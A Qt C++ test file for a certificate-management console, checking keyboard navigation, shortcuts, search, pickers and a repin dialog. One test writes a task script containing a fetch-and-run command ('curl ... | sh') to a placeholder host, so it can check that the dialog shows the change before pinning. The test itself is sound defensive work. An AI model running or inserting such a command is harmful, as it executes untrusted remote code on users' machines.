// SPDX-FileCopyrightText: 2026 The Certlife developers
// SPDX-License-Identifier: Apache-2.0
#include "../core/tasks/TaskFixture.h"
#include "ActionTestSupport.h"
#include "ConsoleFixture.h"
#include "TestEnvironment.h"
#include "dialogs/RepinDialog.h"
#include "dialogs/ReplaceCertificateDialog.h"
#include "dialogs/ShortcutsDialog.h"
#include "dialogs/TaskTestDialogs.h"
#include "models/CertificateFilterModel.h"
#include "models/CertificateTableModel.h"
#include "models/StoreListModel.h"
#include "pages/CertificatesPage.h"
#include "pages/EventsPage.h"
#include "pages/OverviewPage.h"
#include "pages/StoresPage.h"
#include "pages/TasksPage.h"
#include "tasks/TaskAdmin.h"
#include "commands/CertificateActionSet.h"
#include "widgets/CertificateDetailsPane.h"
#include "widgets/FileDialogStart.h"

#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QContextMenuEvent>
#include <QDir>
#include <QLineEdit>
#include <QListWidget>
#include <QMenu>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QSortFilterProxyModel>
#include <QTableView>
#include <QTest>
#include <QTimer>
#include <QTreeWidget>

using namespace certlife;
using namespace certlife::test;
using namespace certlife::ui;

// The console without the mouse: Tab between widgets, the shortcuts and their list, the
// search field's Down and Enter, Ctrl+F, the context-menu key; the Replace and Test
// pickers' suggestions and filters; what Repin shows before it pins; where file dialogs
// open. The real main window over the demo data, driven by key presses.
class TestKeyboard : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void tabMovesBetweenWidgetsNotCells();
    void shortcutsTriggerTheirActions();
    void shortcutsDialogListsEveryActionWithAShortcut();
    void downAndEnterInTheSearchMoveIntoTheResults();
    void ctrlFFocusesTheCurrentPagesFilter();
    void contextMenuKeyOpensTheMenuOfTheCurrentRow();
    void enterOpensTheRow();
    void replacePickerSuggestsTheSameSubjectFirstAndFilters();
    void testPickerSuggestsTheSameSubjectFirstAndFilters();
    void repinShowsTheScriptBeforePinning();
    void fileDialogsOpenInADirectoryThatExists();

private:
    MainWindow* window() const { return m_console->window.get(); }
    CertificatesPage* certificates() const { return window()->certificatesPage(); }
    // Runs `check` on the menu or dialog that `open` shows, then closes it.
    static bool whileModalOpen(const std::function<void()>& open, const std::function<void(QWidget*)>& check);

    std::unique_ptr<TestEnvironment> m_env;
    DemoData m_data;
    std::unique_ptr<ConsoleFixture> m_console;
    std::shared_ptr<ScriptedActionDialogs> m_actionDialogs;
    QString m_settingsFile;
};

void TestKeyboard::initTestCase()
{
    m_env = std::make_unique<TestEnvironment>();
    m_data = makeDemoData();
    m_settingsFile = m_env->path(QStringLiteral("console.conf"));
    QDir().mkpath(QDir::homePath());
}

void TestKeyboard::init()
{
    QFile::remove(m_settingsFile);
    setRememberedFileDialogDirectory(QString());
    m_console = std::make_unique<ConsoleFixture>(m_data, m_settingsFile);
    // The certificate actions' questions answered here (the fixture's window asks real dialogs).
    m_actionDialogs = std::make_shared<ScriptedActionDialogs>();
    MainWindow::Services services;
    services.desktop = m_console->desktop;
    services.stores = m_console->dialogs;
    services.messages = m_console->messages;
    services.policy = m_console->policyDialogs;
    services.reports = m_console->reportDialogs;
    services.tasks = m_console->taskDialogs;
    services.actionDialogs = m_actionDialogs;
    m_console->window.reset();
    m_console->window = std::make_unique<MainWindow>(m_console->controller.get(), m_console->settings.get(), services);
    QVERIFY(m_console->showAndLoad());
    window()->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(window()));
}

void TestKeyboard::cleanup()
{
    // A scan still running (Scan now, a removed store) would finish into the fake source
    // after it is gone: let it end first.
    QVERIFY(QTest::qWaitFor([this] { return !m_console->controller->isScanning(); }, 20000));
    m_console.reset();
}

bool TestKeyboard::whileModalOpen(const std::function<void()>& open, const std::function<void(QWidget*)>& check)
{
    bool seen = false;
    QTimer::singleShot(0, [&] {
        QWidget* shown =
            QApplication::activePopupWidget() ? QApplication::activePopupWidget() : QApplication::activeModalWidget();
        if (!shown) {
            QTimer::singleShot(50, [&] {
                QWidget* later = QApplication::activePopupWidget() ? QApplication::activePopupWidget()
                                                                   : QApplication::activeModalWidget();
                if (later) {
                    seen = true;
                    check(later);
                    later->close();
                }
            });
            return;
        }
        seen = true;
        check(shown);
        shown->close();
    });
    open();
    return seen;
}

void TestKeyboard::tabMovesBetweenWidgetsNotCells()
{
    // No view of the window walks cell by cell on Tab.
    for (QAbstractItemView* view : window()->findChildren<QAbstractItemView*>())
        QVERIFY2(!view->tabKeyNavigation(), qPrintable(view->objectName() + QStringLiteral(" takes Tab")));

    window()->showPage(certificates());
    QTableView* table = certificates()->table();
    table->setCurrentIndex(table->model()->index(1, 0)); // the details pane shows a certificate
    auto* store = certificates()->findChild<QComboBox*>(QStringLiteral("storeFilter"));
    QVERIFY(store);
    store->setFocus(Qt::TabFocusReason);
    QTRY_VERIFY(store->hasFocus());

    // The filters (store, then "Served by an endpoint"), then the table, then the details
    // pane: one Tab each.
    QWidget* served = certificates()->servedFilter();
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    QTRY_COMPARE(QApplication::focusWidget(), served);
    QTest::keyClick(served, Qt::Key_Tab);
    QTRY_COMPARE(QApplication::focusWidget(), table);
    const QModelIndex before = table->currentIndex();
    QTest::keyClick(table, Qt::Key_Tab);
    QWidget* after = QApplication::focusWidget();
    QVERIFY2(after && certificates()->details()->isAncestorOf(after),
             qPrintable(after ? after->metaObject()->className() + QStringLiteral(" ") + after->objectName()
                              : QStringLiteral("nothing")));
    QCOMPARE(table->currentIndex(), before); // Tab did not move to the next cell
    QTest::keyClick(after, Qt::Key_Backtab, Qt::ShiftModifier);
    QTRY_COMPARE(QApplication::focusWidget(), table);
    QTest::keyClick(table, Qt::Key_Backtab, Qt::ShiftModifier);
    QTRY_COMPARE(QApplication::focusWidget(), served);
    QTest::keyClick(served, Qt::Key_Backtab, Qt::ShiftModifier);
    QTRY_VERIFY(store->hasFocus());
}

void TestKeyboard::shortcutsTriggerTheirActions()
{
    auto actionNamed = [this](const char* name) { return window()->findChild<QAction*>(QString::fromLatin1(name)); };
    const struct
    {
        const char* action;
        QKeySequence key;
    } expected[] = {
        {"refreshAction", QKeySequence(Qt::Key_F5)},
        {"exportReportAction", QKeySequence(Qt::CTRL | Qt::Key_E)},
        {"findAction", QKeySequence(Qt::CTRL | Qt::Key_F)},
    };
    for (const auto& [name, key] : expected) {
        QAction* action = actionNamed(name);
        QVERIFY2(action, name);
        QSignalSpy triggered(action, &QAction::triggered);
        window()->showPage(window()->overviewPage());
        const QKeyCombination combination = key[0];
        QTest::keyClick(window(), combination.key(), combination.keyboardModifiers());
        QVERIFY2(triggered.size() == 1 || triggered.wait(2000), name);
        QTRY_VERIFY(!window()->commandRunner()->isBusy()); // the scripted dialogs cancel at once
    }
    QCOMPARE(m_console->reportDialogs->contexts.size(), 1); // Export report asked its question

    // Scan now is Ctrl+R (not pressed: a scan would outlive the test under load).
    QCOMPARE(actionNamed("scanAction")->shortcut(), QKeySequence(Qt::CTRL | Qt::Key_R));

    // Delete on a store's row asks to remove it (answered no: a removal rescans).
    StoresPage* stores = window()->storesPage();
    window()->showPage(stores);
    QTableView* table = stores->storeTable();
    table->setFocus();
    auto* sorted = qobject_cast<QSortFilterProxyModel*>(table->model());
    QVERIFY(sorted);
    QString storeId;
    for (int row = 0; row < sorted->rowCount() && storeId.isEmpty(); ++row) {
        const StoreConfig& config =
            m_console->controller->stores()->storeAt(sorted->mapToSource(sorted->index(row, 0)).row()).config;
        if (config.scope == Scope::User) {
            table->setCurrentIndex(sorted->index(row, 0));
            storeId = config.id;
        }
    }
    QVERIFY(!storeId.isEmpty());
    QTRY_VERIFY(table->hasFocus());
    m_console->dialogs->confirmRemoval = false;
    const std::optional<CommandOutcome> removal =
        m_console->runCommand([table] { QTest::keyClick(table, Qt::Key_Delete); });
    QVERIFY2(removal, "Delete started no command");
    QVERIFY(removal->status == CommandOutcome::Status::Cancelled); // it asked, and was told no
    QVERIFY(m_console->inventory->removed.isEmpty());

    // The certificate actions' keys act on the certificate table (the demo's stores are
    // not writable here, so they are only looked up, not pressed).
    QAction* remove = window()->certificateActions()->action(CertificateActionSet::Kind::Delete);
    QCOMPARE(remove->shortcut(), QKeySequence(QKeySequence::Delete));
    QCOMPARE(remove->shortcutContext(), Qt::WidgetWithChildrenShortcut);
    QVERIFY(certificates()->table()->actions().contains(remove));
    QCOMPARE(window()->certificateActions()->action(CertificateActionSet::Kind::Import)->shortcut(),
             QKeySequence(Qt::CTRL | Qt::Key_I));

    // Ctrl+number switches pages; F1 shows the shortcuts.
    QTest::keyClick(window(), Qt::Key_4, Qt::ControlModifier);
    QCOMPARE(window()->currentPage(), window()->eventsPage());
    QString title;
    QVERIFY(whileModalOpen([this] { QTest::keyClick(window(), Qt::Key_F1); },
                           [&title](QWidget* shown) { title = shown->objectName(); }));
    QCOMPARE(title, QStringLiteral("shortcutsDialog"));
}

void TestKeyboard::shortcutsDialogListsEveryActionWithAShortcut()
{
    // An action added later is listed too: the dialog reads the actions, not a list.
    auto* probe = new QAction(QStringLiteral("&Probe…"), window());
    probe->setShortcut(QKeySequence(Qt::CTRL | Qt::SHIFT | Qt::Key_K));
    window()->addAction(probe);

    ShortcutsDialog dialog(window());
    auto* list = dialog.findChild<QTreeWidget*>(QStringLiteral("shortcutList"));
    QVERIFY(list);
    QStringList shown;
    for (int i = 0; i < list->topLevelItemCount(); ++i)
        shown << list->topLevelItem(i)->text(0) + QStringLiteral(" = ") + list->topLevelItem(i)->text(1);

    int withShortcut = 0;
    QHash<QString, QString> windowWide; // portable key → action: no two window-wide actions share a key
    for (const QAction* action : window()->findChildren<QAction*>()) {
        if (action->shortcut().isEmpty() || action->text().isEmpty())
            continue;
        ++withShortcut;
        QString text = action->text().remove(QLatin1Char('&'));
        if (text.endsWith(QChar(0x2026)))
            text.chop(1);
        const QString line = text + QStringLiteral(" = ") + action->shortcut().toString(QKeySequence::NativeText);
        QVERIFY2(shown.contains(line), qPrintable(line + QStringLiteral(" is not listed in:\n") + shown.join('\n')));
        if (action->shortcutContext() == Qt::WindowShortcut || action->shortcutContext() == Qt::ApplicationShortcut) {
            const QString key = action->shortcut().toString(QKeySequence::PortableText);
            QVERIFY2(!windowWide.contains(key),
                     qPrintable(key + QStringLiteral(": ") + windowWide.value(key) + QStringLiteral(" and ") + text));
            windowWide.insert(key, text);
        }
    }
    QCOMPARE(list->topLevelItemCount(), withShortcut);
    for (const QString& line :
         {QStringLiteral("Probe = Ctrl+Shift+K"), QStringLiteral("Export report = Ctrl+E"),
          QStringLiteral("Refresh = F5"), QStringLiteral("Scan now = Ctrl+R"), QStringLiteral("Import = Ctrl+I"),
          QStringLiteral("Delete = Del"), QStringLiteral("Find = Ctrl+F"), QStringLiteral("Keyboard shortcuts = F1"),
          QStringLiteral("Certificates = Ctrl+3"), QStringLiteral("Delete task = Del")})
        QVERIFY2(shown.contains(line), qPrintable(line + QStringLiteral(" missing from:\n") + shown.join('\n')));
    // Where each acts: the certificate actions are in the Certificate menu, Delete task on its page.
    const QList<ShortcutEntry> entries = shortcutEntries(window());
    for (const ShortcutEntry& entry : entries) {
        if (entry.action == QStringLiteral("Import"))
            QCOMPARE(entry.where, QStringLiteral("Certificate"));
        if (entry.action == QStringLiteral("Delete task"))
            QCOMPARE(entry.where, QStringLiteral("Tasks page"));
    }
}

void TestKeyboard::downAndEnterInTheSearchMoveIntoTheResults()
{
    window()->showPage(window()->overviewPage());
    QLineEdit* search = window()->searchField();
    search->setFocus();
    QTest::keyClicks(search, QStringLiteral("example.net"));
    QTest::keyClick(search, Qt::Key_Down); // before the typing pause: the search applies at once
    QTableView* table = certificates()->table();
    QCOMPARE(window()->currentPage(), certificates());
    QCOMPARE(certificates()->filterModel()->rowCount(), 6);
    QTRY_COMPARE(QApplication::focusWidget(), table);
    QCOMPARE(table->currentIndex().row(), 0);
    QVERIFY(table->selectionModel()->isRowSelected(0, QModelIndex()));

    // Enter does the same, from a row further down.
    table->setCurrentIndex(table->model()->index(3, 0));
    search->setFocus();
    QTRY_VERIFY(search->hasFocus());
    search->clear();
    QTest::keyClicks(search, QStringLiteral("grafana"));
    QTest::keyClick(search, Qt::Key_Return);
    QCOMPARE(certificates()->filterModel()->rowCount(), 1);
    QTRY_COMPARE(QApplication::focusWidget(), table);
    QCOMPARE(table->currentIndex().row(), 0);
    QCOMPARE(certificates()->currentRow()->certificate().displayName(), QStringLiteral("grafana.example.com"));
}

void TestKeyboard::ctrlFFocusesTheCurrentPagesFilter()
{
    window()->showPage(window()->eventsPage());
    QTest::keyClick(window(), Qt::Key_F, Qt::ControlModifier);
    QCOMPARE(window()->currentPage(), window()->eventsPage()); // stays on the page
    QTRY_COMPARE(QApplication::focusWidget()->objectName(), QStringLiteral("eventTextFilter"));

    // The Certificates page's filter is the search field; pages without one go there.
    for (ConsolePage* page : {static_cast<ConsolePage*>(certificates()), window()->pages().first()}) {
        window()->showPage(page);
        window()->findChild<QWidget*>(QStringLiteral("navigation"))->setFocus();
        QTest::keyClick(window(), Qt::Key_F, Qt::ControlModifier);
        QCOMPARE(window()->currentPage(), certificates());
        QTRY_VERIFY(window()->searchField()->hasFocus());
    }
}

void TestKeyboard::contextMenuKeyOpensTheMenuOfTheCurrentRow()
{
    window()->showPage(certificates());
    QTableView* table = certificates()->table();
    table->setFocus();
    table->setCurrentIndex(table->model()->index(2, 0));
    QTRY_VERIFY(table->hasFocus());
    const QString thumbprint = certificates()->currentRow()->thumbprint();

    auto checkMenu = [&](QWidget* shown) {
        auto* menu = qobject_cast<QMenu*>(shown);
        QVERIFY(menu);
        QStringList texts;
        for (const QAction* action : menu->actions())
            texts << action->text();
        QVERIFY2(texts.contains(QStringLiteral("Copy thumbprint")), qPrintable(texts.join(", ")));
        QVERIFY(texts.contains(QStringLiteral("&Delete…")));
        QCOMPARE(certificates()->currentRow()->thumbprint(), thumbprint); // the menu is the current row's
    };
    // Shift+F10, and the context-menu key (the platform sends a keyboard context menu
    // event at the mouse pointer, which may be anywhere).
    QVERIFY(whileModalOpen([table] { QTest::keyClick(table, Qt::Key_F10, Qt::ShiftModifier); }, checkMenu));
    QVERIFY(whileModalOpen(
        [table] {
            QContextMenuEvent event(QContextMenuEvent::Keyboard, QPoint(3, 3), table->mapToGlobal(QPoint(3, 3)));
            QApplication::sendEvent(table, &event);
        },
        checkMenu));
}

void TestKeyboard::enterOpensTheRow()
{
    // The Overview's latest warnings: Enter shows that certificate's history, as a double click does.
    OverviewPage* overview = window()->overviewPage();
    window()->showPage(overview);
    auto* alerts = overview->findChild<QTableView*>(QStringLiteral("alertTable"));
    QVERIFY(alerts);
    QTRY_VERIFY(alerts->model()->rowCount() > 0);
    alerts->setFocus();
    alerts->setCurrentIndex(alerts->model()->index(0, 0));
    QTest::keyClick(alerts, Qt::Key_Return);
    QCOMPARE(window()->currentPage(), window()->eventsPage());
}

void TestKeyboard::replacePickerSuggestsTheSameSubjectFirstAndFilters()
{
    CertificateSummary old;
    old.name = QStringLiteral("shop.example.org");
    old.subject = QStringLiteral("CN=shop.example.org,O=Shop");
    old.commonName = old.name;
    old.alternativeNames = {QStringLiteral("DNS:shop.example.org"), QStringLiteral("DNS:www.shop.example.org")};
    auto candidate = [](const QString& cn, const QString& subject, const QStringList& sans, const QString& thumb) {
        CertificateSummary c;
        c.name = cn;
        c.subject = subject;
        c.commonName = cn;
        c.alternativeNames = sans;
        c.thumbprint = thumb;
        c.storeLabel = QStringLiteral("Web (System)");
        c.notAfter = QDateTime(QDate(2027, 1, 1), QTime(0, 0), Qt::UTC);
        return c;
    };
    const QList<CertificateSummary> candidates{
        candidate(QStringLiteral("mail.example.com"), QStringLiteral("CN=mail.example.com"),
                  {QStringLiteral("DNS:mail.example.com")}, QStringLiteral("AA01")),
        candidate(QStringLiteral("shop-new"), QStringLiteral("CN=shop-new,O=Shop"),
                  {QStringLiteral("DNS:WWW.shop.example.org"), QStringLiteral("DNS:legacy.shop.example.org")},
                  QStringLiteral("BB02")),
        candidate(QStringLiteral("grafana.example.com"), QStringLiteral("CN=grafana.example.com"),
                  {QStringLiteral("DNS:grafana.example.com")}, QStringLiteral("CC03")),
        candidate(QStringLiteral("shop.example.org"), old.subject, old.alternativeNames, QStringLiteral("DD04")),
    };
    ReplaceCertificateDialog dialog(old, candidates);
    dialog.show();
    auto* list = dialog.findChild<QTreeWidget*>(QStringLiteral("replacementList"));
    QVERIFY(list);
    QStringList order;
    for (int i = 0; i < list->topLevelItemCount(); ++i)
        order << list->topLevelItem(i)->text(4) + QLatin1Char(' ') + list->topLevelItem(i)->text(1);
    QCOMPARE(order,
             (QStringList{QStringLiteral("DD04 same subject"), QStringLiteral("BB02 shares a name"),
                          QStringLiteral("AA01 "), QStringLiteral("CC03 ")}));
    QCOMPARE(dialog.chosenIndex(), 3); // the suggestion is preselected

    // The filter narrows by name, subject, alternative name or thumbprint.
    auto* filter = dialog.findChild<QLineEdit*>();
    QVERIFY(filter);
    QTest::keyClicks(filter, QStringLiteral("grafana"));
    int shown = 0;
    for (int i = 0; i < list->topLevelItemCount(); ++i)
        shown += list->topLevelItem(i)->isHidden() ? 0 : 1;
    QCOMPARE(shown, 1);
    QCOMPARE(dialog.chosenIndex(), 2);
    filter->clear();
    QTest::keyClicks(filter, QStringLiteral("legacy"));
    QCOMPARE(dialog.chosenIndex(), 1); // an alternative name matches; the hidden choice moved to the one shown
    QTest::keyClick(filter, Qt::Key_Down);
    QTRY_COMPARE(QApplication::focusWidget(), list);
}

void TestKeyboard::testPickerSuggestsTheSameSubjectFirstAndFilters()
{
    NotificationTask task;
    task.name = QStringLiteral("rebind");
    task.type = TaskType::Replace;
    task.channel = Scope::User;
    auto candidate = [](const QString& cn, const QString& subject, const QStringList& sans) {
        TaskTestCandidate c;
        c.certificate.storeId = QStringLiteral("web");
        c.certificate.details.subject = subject;
        c.certificate.details.subjectCN = cn;
        c.certificate.details.sans = sans;
        c.certificate.details.thumbprint = cn.toUpper();
        c.label = cn + QStringLiteral(" — web");
        return c;
    };
    const QList<TaskTestCandidate> candidates{
        candidate(QStringLiteral("api.example.org"), QStringLiteral("CN=api.example.org"),
                  {QStringLiteral("DNS:api.example.org")}),
        candidate(QStringLiteral("mail.example.com"), QStringLiteral("CN=mail.example.com"),
                  {QStringLiteral("DNS:mail.example.com")}),
        candidate(QStringLiteral("api-2026"), QStringLiteral("CN=api-2026"), {QStringLiteral("DNS:api.example.org")}),
        candidate(QStringLiteral("api.example.org"), QStringLiteral("CN=api.example.org"),
                  {QStringLiteral("DNS:api.example.org")}),
    };
    TaskTestCertificateDialog dialog(task, candidates);
    dialog.show();
    auto* replaced = dialog.findChild<QComboBox*>(QStringLiteral("replacedCertificate"));
    QVERIFY(replaced);
    // For the first certificate: none, then the same subject, then the one sharing a name.
    QCOMPARE(replaced->count(), 4);
    QCOMPARE(replaced->itemData(0).toInt(), -1);
    QCOMPARE(replaced->itemData(1).toInt(), 3);
    QVERIFY(replaced->itemText(1).endsWith(QStringLiteral("(same subject)")));
    QCOMPARE(replaced->itemData(2).toInt(), 2);
    QVERIFY(replaced->itemText(2).endsWith(QStringLiteral("(shares a name)")));
    QCOMPARE(replaced->itemData(3).toInt(), 1);

    auto* filter = dialog.findChild<QLineEdit*>(QStringLiteral("testCertificateFilter"));
    QVERIFY(filter);
    QTest::keyClicks(filter, QStringLiteral("mail"));
    QCOMPARE(dialog.choice().certificate, 1);   // the only one shown is chosen
    QCOMPARE(replaced->itemData(1).toInt(), 0); // and nothing shares its names
    QVERIFY(!replaced->itemText(1).contains(QLatin1Char('(')));
    replaced->setCurrentIndex(1);
    QCOMPARE(dialog.choice().replaced, 0);
}

void TestKeyboard::repinShowsTheScriptBeforePinning()
{
    ScriptDir scripts;
    if (!scripts.problem().isEmpty())
        QSKIP(qPrintable(scripts.problem()));
    const QString script = scripts.write(QStringLiteral("rebind.sh"), "#!/bin/sh\necho v1\n");
    NotificationTask task;
    task.name = QStringLiteral("pinned");
    task.channel = Scope::User;
    task.command = script;
    QVERIFY(registerTask(task, ScriptPin::CheckedNow).ok());
    const QByteArray changed = "#!/bin/sh\necho v2\ncurl -s https://example.invalid/x | sh\n";
    scripts.write(QStringLiteral("rebind.sh"), changed, 0750);

    TasksPage* page = window()->tasksPage();
    QSignalSpy reloaded(page, &TasksPage::reloaded);
    window()->showPage(page);
    QTRY_VERIFY(reloaded.size() > 0 && !page->isLoading());
    QVERIFY(page->selectTask(Scope::User, task.name));
    m_console->taskDialogs->acceptRepin = false;
    QVERIFY(m_console->runCommand([page] { page->repinButton()->click(); }));

    // What the dialog is given: the content that would be pinned, and the file's facts.
    QCOMPARE(m_console->taskDialogs->repinPreviews.size(), 1);
    const RepinPreview preview = m_console->taskDialogs->repinPreviews.first();
    QCOMPARE(preview.content, changed);
    QCOMPARE(preview.size, qint64(changed.size()));
    QCOMPARE(preview.mode, 0750u);
    QVERIFY(!preview.owner.isEmpty());
    QVERIFY(preview.modified.isValid());

    // The real dialog shows it, says why there is no diff, and defaults to Cancel.
    RepinDialog dialog(task, preview);
    QCOMPARE(dialog.contentView()->toPlainText(), QString::fromUtf8(changed));
    QVERIFY(dialog.contentView()->isReadOnly());
    const QString facts = dialog.factsText();
    QVERIFY2(facts.contains(QStringLiteral("cannot be shown as a diff")), qPrintable(facts));
    QVERIFY(facts.contains(QStringLiteral("0750")));
    QVERIFY(facts.contains(preview.owner));
    QVERIFY(facts.contains(preview.pinnedSha256) && facts.contains(preview.currentSha256));
    QCOMPARE(dialog.pinButton()->text(), QStringLiteral("&Pin"));
    QVERIFY(!dialog.pinButton()->isDefault());
}

void TestKeyboard::fileDialogsOpenInADirectoryThatExists()
{
    const QString home = QDir::homePath();
    QCOMPARE(fileDialogDirectory(), home); // nothing chosen yet

    const QString chosen = m_env->path(QStringLiteral("exports/2026"));
    QVERIFY(QDir().mkpath(chosen));
    rememberFileDialogChoice(chosen + QStringLiteral("/web.pem"));
    QCOMPARE(fileDialogDirectory(), chosen);
    QCOMPARE(fileDialogSavePath(QStringLiteral("certlife-report.pdf")),
             chosen + QStringLiteral("/certlife-report.pdf"));
    // A typed path that was removed: its nearest existing directory.
    QCOMPARE(fileDialogDirectory(chosen + QStringLiteral("/gone/deeper/x.pem")), chosen);

    // File → Export report suggests it; once it is removed, home.
    m_console->runCommand([this] { window()->findChild<QAction*>(QStringLiteral("exportReportAction"))->trigger(); });
    QCOMPARE(m_console->reportDialogs->contexts.last().suggestedDirectory, chosen);
    QVERIFY(QDir(m_env->path(QStringLiteral("exports"))).removeRecursively());
    QCOMPARE(fileDialogDirectory(), home);
    QCOMPARE(fileDialogSavePath(chosen + QStringLiteral("/certlife-report.pdf")),
             QDir(m_env->path(QString())).filePath(QStringLiteral("certlife-report.pdf")));
    m_console->runCommand([this] { window()->findChild<QAction*>(QStringLiteral("exportReportAction"))->trigger(); });
    const QString suggested = m_console->reportDialogs->contexts.last().suggestedDirectory;
    QVERIFY2(QFileInfo(suggested).isDir(), qPrintable(suggested));

    // The last directory is kept in console.conf between runs.
    rememberFileDialogChoice(home);
    window()->saveSettings();
    setRememberedFileDialogDirectory(QString());
    ConsoleSettings reread(m_settingsFile);
    QCOMPARE(reread.lastFileDirectory(), home);
}

QTEST_MAIN(TestKeyboard)
#include "TestKeyboard.moc"
